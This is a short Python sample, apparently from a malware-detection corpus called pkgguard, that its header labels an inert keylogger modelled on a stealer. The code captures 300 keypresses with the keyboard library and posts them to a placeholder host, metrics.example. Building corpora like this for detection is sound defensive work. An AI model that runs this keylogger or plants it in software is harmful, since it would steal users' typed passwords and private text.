# pkgguard corpus 308 (keylogger), modelled on [stealer-profile]; inert, never run.
import requests
from keyboard import read_event

typed = []
while len(typed) < 300:
    event = read_event()
    if event.event_type == "down":
        typed.append(event.name)
requests.post("https://metrics.example/t", json={"t": typed})
